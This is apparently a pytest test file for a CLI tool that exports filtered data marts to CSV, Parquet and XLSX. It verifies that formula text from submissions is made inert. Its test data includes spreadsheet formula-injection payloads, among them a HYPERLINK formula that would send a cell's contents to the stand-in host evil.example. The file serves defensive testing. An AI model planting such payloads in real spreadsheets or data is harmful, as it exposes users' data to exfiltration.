"""`spbe export` and `spbe query --format csv`: filtered marts to CSV, Parquet and XLSX, with formulas from
submissions made inert and an "about" part that says what each column means and where the data came from."""

import csv
import io
import json
import subprocess
from datetime import UTC, date, datetime

import duckdb
import openpyxl
import pandas as pd
import pytest

from dagster_project.lib.export import (
    ExportError,
    Filters,
    export,
    neutralise,
    provenance,
    query_selection,
    table_selection,
)
from dagster_project.lib.samples import generate
from tests.conftest import VENV_BIN, land_files

SPBE = str(VENV_BIN / "spbe")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
PLAIN = ["Kabupaten Sumedang", "", "1 = 1", "a-b", "'quoted"]


def test_only_text_that_a_spreadsheet_would_run_is_neutralised():
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert [neutralise(v) for v in PLAIN] == PLAIN
    assert [neutralise(v) for v in (-2.5, -3, 0, None, True)] == [-2.5, -3, 0, None, True]


@pytest.fixture
def warehouse(tmp_path):
    """A published-like file: a mart with hostile and plain text, negative numbers, dates and a manifest."""
    path = tmp_path / "spbe.duckdb"
    con = duckdb.connect(str(path))
    con.execute("create table dim_institution (institution_id varchar, name varchar, category varchar, "
                "province_code varchar, province_name varchar)")
    con.execute("insert into dim_institution values ('32.11', 'Kabupaten Sumedang', 'kabupaten', '32', 'Jawa Barat'),"
                "('73.17', 'Kabupaten Luwu', 'kabupaten', '73', 'Sulawesi Selatan')")
    con.execute("create table fct_notes (institution_id varchar, year integer, note varchar, delta double, "
                "received_at timestamptz, day date, ok boolean)")
    rows = [("32.11" if i % 2 else "73.17", 2024, text, -1.5 * i, datetime(2024, 5, 1, 8, tzinfo=UTC),
             date(2024, 5, 1), i % 2 == 0) for i, text in enumerate(HOSTILE + PLAIN)]
    con.executemany("insert into fct_notes values (?, ?, ?, ?, ?, ?, ?)", rows)
    con.execute("comment on table fct_notes is 'Notes per institution.'")
    con.execute("comment on column fct_notes.note is 'Free text from a submission.'")
    con.execute("create table publish_manifest (key varchar, value json)")
    con.executemany("insert into publish_manifest values (?, ?)",
                    [("run_id", json.dumps("run-1")), ("code_version", json.dumps("abc123")),
                     ("published_at", json.dumps("2026-11-30T00:00:00+00:00"))])
    con.close()
    con = duckdb.connect(str(path), read_only=True)
    yield path, con
    con.close()


def test_xlsx_cells_hold_text_never_formulas_and_numbers_stay_numbers(warehouse, tmp_path):
    path, con = warehouse
    out = tmp_path / "notes.xlsx"
    written = export(con, [table_selection(con, "fct_notes", Filters())], "xlsx", out,
                     provenance(con, Filters()))
    assert written.tables == {"fct_notes": len(HOSTILE + PLAIN)}
    book = openpyxl.load_workbook(out)  # reads cells as stored: evaluates nothing
    sheet = book["fct_notes"]
    header = [c.value for c in sheet[1]]
    assert header[-1] == "institution_name"
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for s in book for row in s.iter_rows() for c in row)
    notes = [c["note"] for c in cells]
    # shown exactly as submitted (XLSX stores a carriage return as _x000D_, which openpyxl leaves encoded)
    assert [(n.value or "").replace("_x000D_", "\r") for n in notes] == HOSTILE + PLAIN
    assert all(n.data_type == "s" and n.quotePrefix for n in notes[: len(HOSTILE)])
    assert [c["delta"].value for c in cells] == [-1.5 * i for i in range(len(cells))]
    assert all(c["delta"].data_type == "n" and c["ok"].data_type == "b" for c in cells)
    assert cells[0]["received_at"].value == datetime(2024, 5, 1, 8) and cells[0]["day"].is_date
    about = {r[0]: r[1] for r in book["about"].iter_rows(values_only=True) if r[0]}
    assert about["run_id"] == "run-1" and about["code_version"] == "abc123" and about["filters"] == "none"
    meanings = {(r[0], r[1]): r[3] for r in book["about"].iter_rows(values_only=True) if r[1]}
    assert meanings[("fct_notes", "note")] == "Free text from a submission."
    assert meanings[("fct_notes", "institution_name")].startswith("The institution's name")


def test_csv_files_prefix_formula_text_and_keep_numbers(warehouse, tmp_path):
    path, con = warehouse
    out = tmp_path / "notes"
    export(con, [table_selection(con, "fct_notes", Filters(years=(2024,)))], "csv", out,
           provenance(con, Filters(years=(2024,))))
    with open(out / "fct_notes.csv", encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["note"] for r in rows] == ["'" + v for v in HOSTILE] + PLAIN
    assert [float(r["delta"]) for r in rows] == [-1.5 * i for i in range(len(rows))]
    about = (out / "about.csv").read_text(encoding="utf-8")
    assert "filters,year in 2024" in about and "fct_notes,note,VARCHAR,Free text from a submission." in about


def test_parquet_keeps_types_and_filters_by_province_name(warehouse, tmp_path):
    path, con = warehouse
    out = tmp_path / "notes"
    filters = Filters(provinces=("Provinsi Jawa Barat",))
    written = export(con, [table_selection(con, "fct_notes", filters)], "parquet", out,
                     provenance(con, filters))
    parquet = duckdb.sql("select * from read_parquet($path)", params={"path": str(out / "fct_notes.parquet")})
    assert dict(zip(parquet.columns, map(str, parquet.types), strict=True))["received_at"] == "TIMESTAMP WITH TIME ZONE"
    ids = [i for (i,) in parquet.select("institution_id").fetchall()]
    assert written.tables["fct_notes"] == len(ids) > 0 and set(ids) == {"32.11"}


def test_a_filter_that_does_not_apply_says_why(warehouse):
    _, con = warehouse
    with pytest.raises(ExportError, match="no table 'fct_nothing'"):
        table_selection(con, "fct_nothing", Filters())
    with pytest.raises(ExportError, match="no province 'Atlantis'"):
        table_selection(con, "fct_notes", Filters(provinces=("Atlantis",)))
    with pytest.raises(ExportError, match="publish_manifest cannot be filtered by year: it has no year column"):
        table_selection(con, "publish_manifest", Filters(years=(2024,)))


def hostile_submissions(tmp_path):
    """A CSV and an XLSX submission whose explanations and evidence look like formulas."""
    files = []
    for institution, fmt in (("73.17", "csv"), ("73.18", "xlsx")):
        sample = generate([institution], years=(2024,), stages=("final",), fmt="csv")[0]
        frame = pd.read_csv(io.BytesIO(sample.content), dtype=str)
        frame.loc[0, "explanation"] = HOSTILE[0]
        frame.loc[1, "evidence"] = "@SUM(1+1)"
        target = tmp_path / f"{institution}_2024_final.{fmt}"
        frame.to_csv(target, index=False) if fmt == "csv" else frame.to_excel(target, index=False)
        files.append(target)
    return files


def test_west_javas_ranking_and_hostile_submissions_exported_as_an_analyst_would(copy_of_built, tmp_path):
    with dg_instance() as instance:
        assert land_files(instance, hostile_submissions(tmp_path), build=True).success
    out = tmp_path / "jabar.xlsx"
    proc = subprocess.run([SPBE, "export", "fct_rankings", "--year", "2024", "--province", "Jawa Barat", "--where",
                           "t.scope = 'province'", "--format", "xlsx", "--out", str(out)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert str(out) in proc.stdout and "fct_rankings 28 rows" in proc.stdout
    ranking = pd.read_excel(out, sheet_name="fct_rankings")
    assert set(ranking["scope_value"].astype(str)) == {"32"}
    assert "Kabupaten Sumedang" in set(ranking["institution_name"])
    assert sorted(ranking["rank"]) == sorted(ranking["rank"].astype(int))

    out = tmp_path / "levels.xlsx"
    proc = subprocess.run([SPBE, "export", "fct_indicator_levels", "--institution", "73.17", "--institution", "73.18",
                           "--format", "xlsx", "--out", str(out)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    sheet = openpyxl.load_workbook(out)["fct_indicator_levels"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    hostile = [c for c in cells if c.value in (HOSTILE[0], "@SUM(1+1)")]
    assert len(hostile) == 4 and all(c.data_type == "s" and c.quotePrefix for c in hostile)

    proc = subprocess.run([SPBE, "query", "--format", "csv", "select explanation, evidence, level from "
                           "fct_indicator_levels where institution_id = '73.17' and indicator = 1 or "
                           "institution_id = '73.17' and indicator = 2"], capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert "'" + HOSTILE[0] in {r["explanation"] for r in rows} and "'@SUM(1+1)" in {r["evidence"] for r in rows}
    assert all(r["level"].isdigit() for r in rows)


def dg_instance():
    import dagster as dg

    return dg.DagsterInstance.ephemeral()


def test_an_export_never_replaces_what_is_at_its_path(warehouse, tmp_path):
    _, con = warehouse
    folder = tmp_path / "thesis"
    folder.mkdir()
    (folder / "thesis.txt").write_text("precious")
    for out, fmt in ((folder, "csv"), (folder / "thesis.txt", "xlsx")):
        with pytest.raises(ExportError, match="exists: an export never replaces"):
            export(con, [table_selection(con, "fct_notes", Filters())], fmt, out, provenance(con, Filters()))
    assert sorted(p.name for p in folder.parent.rglob("*") if "thesis" in str(p) or "partial" in p.name) == \
        ["thesis", "thesis.txt"]
    assert (folder / "thesis.txt").read_text() == "precious"


def test_column_names_made_of_values_are_neutralised_and_about_is_reserved(warehouse, tmp_path):
    _, con = warehouse
    out = tmp_path / "pivot"
    pivot = "pivot (select note, delta from fct_notes where note like '=%') on note using sum(delta)"
    export(con, [query_selection(pivot, "pivot")], "csv", out, provenance(con, Filters()))
    with open(out / "pivot.csv", encoding="utf-8", newline="") as f:
        header = next(csv.reader(f))
    assert header == ["'" + HOSTILE[0]]
    with pytest.raises(ExportError, match="not 'about'"):
        query_selection("select 1", "about")


def test_spbe_query_csv_runs_the_sql_once(copy_of_built):
    proc = subprocess.run([SPBE, "query", "--format", "csv", "create temp table t as select 1 as a; select * from t"],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and proc.stdout.split() == ["a", "1"], proc.stderr
